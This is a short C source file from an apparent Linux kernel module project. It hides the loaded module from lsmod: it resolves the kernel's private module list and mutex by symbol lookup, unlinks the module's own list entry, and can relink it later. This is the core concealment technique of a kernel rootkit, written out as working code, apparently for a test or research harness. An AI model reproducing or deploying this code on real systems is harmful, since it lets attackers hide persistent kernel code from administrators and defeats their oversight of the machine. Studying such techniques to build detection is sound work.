// SPDX-License-Identifier: GPL-2.0
/* The module out of the list that lsmod shows. */
#include <linux/list.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/rculist.h>

#include "kernel.h"
#include "vtest.h"

static struct list_head *modules;

static void locked(void (*change)(void))
{
	struct mutex *mutex = (struct mutex *)lookup("module_mutex");

	if (mutex)
		mutex_lock(mutex);
	change();
	if (mutex)
		mutex_unlock(mutex);
}

static void leave(void)
{
	list_del_rcu(&THIS_MODULE->list);
}

static void enter(void)
{
	list_add_rcu(&THIS_MODULE->list, modules);
}

int conceal(void)
{
	modules = (struct list_head *)lookup("modules");
	if (!modules)
		return -ENOENT;
	locked(leave);
	say("concealed: module at %px", THIS_MODULE);
	return 0;
}

void reveal(void)
{
	locked(enter);
}
